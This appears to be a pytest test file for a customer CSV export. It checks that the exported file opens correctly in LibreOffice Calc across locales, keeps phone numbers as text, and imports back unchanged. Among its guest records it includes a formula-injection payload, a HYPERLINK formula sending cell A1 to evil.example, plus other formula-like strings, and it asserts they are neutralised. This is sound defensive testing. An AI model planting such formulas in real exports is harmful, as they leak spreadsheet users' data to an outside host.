"""An export as a user's spreadsheet opens it: LibreOffice Calc, headless, reads the `;` CSV
(UTF-8) and saves it as .xlsx; openpyxl reads the cells back.

Names keep their accents; phones are text cells with their + and no quote, in the venue's
locales and in those where a space groups thousands (fr-FR, pl-PL), where phonenumbers' full
grouping (`+48 512 345 678`) reads as a number; a name written as a formula stays text; and
importing the file back changes nothing. LibreOffice is required: the test fails, never skips,
when `soffice` is missing.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import shutil
import subprocess
import uuid
from datetime import UTC, datetime
from pathlib import Path

import asyncpg
import openpyxl
import phonenumbers
import pytest
from openpyxl.cell.cell import Cell

from schemas.customer_csv import HEADER
from schemas.normalize import normalize_phone, normalize_phone_quick
from schemas.tags import BUILTIN_TAGS
from services.profile.csvimport import CsvImport, ImportRow
from services.profile.importing import run_import
from tests.support.builders import event
from tests.support.exports import TENANT, run_export, seed

pytestmark = pytest.mark.asyncio(loop_scope="session")

INSTALL = "apt-get install -y --no-install-recommends libreoffice-calc-nogui"
# LibreOffice language ids of the CSV filter's locale: where a venue's staff opens the file, and
# where a space is the thousands separator.
LOCALES = {"en-US": 1033, "nl-BE": 2067, "fr-BE": 2060, "fr-FR": 1036, "pl-PL": 1045}
# What the export lets through unguarded in the phone column: a plus, a country calling code,
# one space, four or more digits. No reference, no function, no thousands grouping.
PHONE_CELL = re.compile(r"\+[0-9]{1,3} [0-9]{4,}")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"click")'

# (email, phone as the guest gave it, first name, last name, the phone cell a user must see)
GUESTS = [
    ("zoe@example.be", "0485 27 95 99", "Zoë", "Ñúñez-Brûlé", "+32 485279599"),  # BE mobile
    ("leo@example.be", "02 511 22 33", "Léopold", "Dewaële", "+32 25112233"),  # BE landline
    ("francoise@example.fr", "+33 6 12 34 56 78", "Françoise", "Lefèvre", "+33 612345678"),
    ("joost@example.nl", "+31 6 12345678", "Joost", "van 't Hek", "+31 612345678"),
    ("amy@example.com", "+1 201-555-0123", "Amy", "O'Brien", "+1 2015550123"),
    ("olly@example.co.uk", "+44 7400 123456", "Olly", "Ødegård", "+44 7400123456"),
    ("kasia@example.pl", "+48 512 345 678", "Kasia", "Wąsowska", "+48 512345678"),
    ("eve@example.be", None, HYPERLINK, "Peeters", None),
    ("mimic@example.be", "0470 12 34 56", "+32 470123456", "-1", "+32 470123456"),
]
GUARDED = {HYPERLINK, "+32 470123456", "-1"}  # free text that a spreadsheet would evaluate


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.fail(
            f"LibreOffice is not installed (no `soffice` on PATH); install it with: {INSTALL}",
            pytrace=False,
        )
    return found


def _calc(csv_path: Path, workdir: Path, locale: str) -> dict[str, list[Cell]]:
    """Open ``csv_path`` in LibreOffice Calc as ``locale`` would, save it as .xlsx; its cells,
    column by column (header label first)."""
    profile = workdir / "lo-profile"  # its own profile: parallel runs do not share one
    out = workdir / f"calc-{locale}"
    done = subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            f"--infilter=CSV:59,34,76,1,,{LOCALES[locale]}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(csv_path),
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    xlsx = out / f"{csv_path.stem}.xlsx"
    assert done.returncode == 0 and xlsx.is_file(), (done.returncode, done.stdout, done.stderr)
    sheet = openpyxl.load_workbook(xlsx).active
    assert sheet is not None
    return {str(column[0].value): list(column[1:]) for column in sheet.iter_cols()}


def _text_cell(cell: Cell, expected: str, where: str) -> None:
    assert (cell.data_type, cell.value) == ("s", expected), (where, cell.data_type, cell.value)


async def test_an_export_opened_in_a_spreadsheet_reads_right_and_imports_back_unchanged(
    db_url: str, owner: asyncpg.Connection, tmp_path: Path
) -> None:
    _soffice()  # first: no LibreOffice, no point in the rest
    await seed(
        owner,
        *(
            event(
                email=email,
                phone=phone,
                at=i,
                contact={"first_name": first, "last_name": last, "language": "nl"},
            )
            for i, (email, phone, first, last, _) in enumerate(GUESTS)
        ),
    )
    path = await run_export(db_url, owner, tmp_path / "exports", delimiter=";", bom=True)

    for locale in LOCALES:
        columns = await asyncio.to_thread(_calc, path, tmp_path, locale)
        assert list(columns) == list(HEADER), locale
        emails = [c.value for c in columns["email"]]
        assert sorted(map(str, emails)) == sorted(g[0] for g in GUESTS), locale
        for email, _, first, last, phone in GUESTS:
            at = emails.index(email)
            for name, value in (("first_name", first), ("last_name", last)):
                # Accents intact; a formula stays text, behind the guard's quote.
                shown = "'" + value if value in GUARDED else value
                _text_cell(columns[name][at], shown, f"{locale} {email} {name}")
            cell = columns["phone"][at]
            if phone is None:
                assert cell.value is None, (locale, email, cell.value)
            else:  # the phone as written, its +, text, no quote
                _text_cell(cell, phone, f"{locale} {email} phone")
                assert PHONE_CELL.fullmatch(phone)
        for name, cells in columns.items():
            for cell in cells:
                assert cell.data_type != "f", (locale, name, cell.value)  # no live formula
                if isinstance(cell.value, str) and cell.value.startswith("'"):
                    assert cell.value[1:] in GUARDED, (locale, name, cell.value)

    # Import the file back: every row valid, every value the stored one, nothing to change.
    raw = path.read_bytes()
    with CsvImport.open(
        io.BytesIO(raw), known_tags=set(BUILTIN_TAGS), now=datetime.now(UTC)
    ) as opened:
        parsed = list(opened.rows())
    assert all(isinstance(r, ImportRow) for r in parsed), parsed
    stored = {
        r["email"]: r
        for r in await owner.fetch(
            "SELECT id, first_name, last_name, email, phone, language, newsletter, tags,"
            " first_contact_at FROM customers WHERE tenant_id = $1",
            TENANT,
        )
    }
    assert len(stored) == len(parsed) == len(GUESTS)
    for row in parsed:
        assert isinstance(row, ImportRow)
        db = stored[row.email]
        assert (
            row.customer_id,
            row.first_name,
            row.last_name,
            row.phone,
            row.language,
            row.newsletter_opt_in,
            row.tags,
            row.first_contact_at,
        ) == (
            db["id"],
            db["first_name"],
            db["last_name"],
            db["phone"],
            db["language"],
            db["newsletter"],
            sorted(db["tags"]),
            db["first_contact_at"],
        )
    with CsvImport.open(
        io.BytesIO(raw), known_tags=set(BUILTIN_TAGS), now=datetime.now(UTC)
    ) as opened:
        report = await run_import(
            owner, opened, tenant_id=TENANT, import_id=uuid.uuid4(), sha256="0" * 64, publish=None
        )
    assert (
        report.rows,
        report.invalid,
        report.would_create,
        report.would_update,
        report.unchanged,
    ) == (len(GUESTS), 0, 0, 0, len(GUESTS)), report


def _example_numbers() -> list[phonenumbers.PhoneNumber]:
    """phonenumbers' example number of every region and type, and of the non-geographic codes."""
    found = []
    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
        for kind in range(phonenumbers.PhoneNumberType.VOICEMAIL + 1):
            found.append(phonenumbers.example_number_for_type(region, kind))
    for code in sorted(phonenumbers.COUNTRY_CODES_FOR_NON_GEO_REGIONS):
        found.append(phonenumbers.example_number_for_non_geo_entity(code))
    return [n for n in found if n is not None and phonenumbers.is_valid_number(n)]


async def test_every_example_number_exports_as_country_code_space_national_number(
    owner: asyncpg.Connection, tmp_path: Path
) -> None:
    _soffice()
    numbers = _example_numbers()
    e164 = sorted(
        {phonenumbers.format_number(n, phonenumbers.PhoneNumberFormat.E164) for n in numbers}
    )
    assert len(e164) > 900
    cells: dict[str, str] = {
        r[0]: r[1]
        for r in await owner.fetch("SELECT v, csv_phone(v) FROM unnest($1::text[]) AS v", e164)
    }
    for number in numbers:
        value = phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.E164)
        cell = cells[value]
        national = phonenumbers.national_significant_number(number)
        assert cell == f"+{number.country_code} {national}", value
        assert PHONE_CELL.fullmatch(cell), value
        # The importer reads it back to the same E.164 number, in any venue's region.
        for region in ("BE", "FR", "US"):
            assert normalize_phone(cell, region) == value, (cell, region)
            assert normalize_phone_quick(cell, region) == value, (cell, region)

    # The migration splits off exactly phonenumbers' country calling codes: every three-digit
    # start of a number, against the one code it begins with (the codes are prefix-free).
    codes = {str(c) for c in phonenumbers.COUNTRY_CODE_TO_REGION_CODE}
    assert not any(a != b and b.startswith(a) for a in codes for b in codes)
    starts = [f"{i:03d}" for i in range(1000)]
    split: dict[str, str] = {
        r[0]: r[1]
        for r in await owner.fetch(
            "SELECT s, csv_phone('+' || s || '123456') FROM unnest($1::text[]) AS s", starts
        )
    }
    for start in starts:
        code = next((c for c in codes if start.startswith(c)), None)
        rest = start[len(code) :] + "123456" if code else ""
        assert split[start] == (f"+{code} {rest}" if code else f"'+{start}123456"), (
            start,
            split[start],
            "phonenumbers' country calling codes changed: add a migration "
            "that redefines csv_phone() with them",
        )

    # Anything else in the phone column is guarded like free text.
    odd: dict[str | None, str | None] = {
        "=1+1": "'=1+1",
        "+999123456": "'+999123456",
        "+3247": "'+3247",
        "+32 470": "'+32 470",
        "+32485279599;=1": "'+32485279599;=1",
        "0470123456": "0470123456",
        "+32485279599\n": "'+32485279599\n",
        "'+32485279599": "''+32485279599",
        None: None,
    }
    got = {
        r[0]: r[1]
        for r in await owner.fetch("SELECT v, csv_phone(v) FROM unnest($1::text[]) AS v", list(odd))
    }
    assert got == odd

    # And a spreadsheet reads each of them as the text written, with its +, where a space
    # groups thousands too.
    sheet = tmp_path / "numbers.csv"
    with sheet.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, delimiter=";", lineterminator="\n")
        writer.writerow(["phone"])
        writer.writerows([cells[v]] for v in e164)
    for locale in ("en-US", "fr-FR", "pl-PL"):
        read = (await asyncio.to_thread(_calc, sheet, tmp_path, locale))["phone"]
        wrong = [
            (c.data_type, c.value)
            for c, v in zip(read, e164, strict=True)
            if (c.data_type, c.value) != ("s", cells[v])
        ]
        assert wrong == [], (locale, len(wrong), wrong[:5])
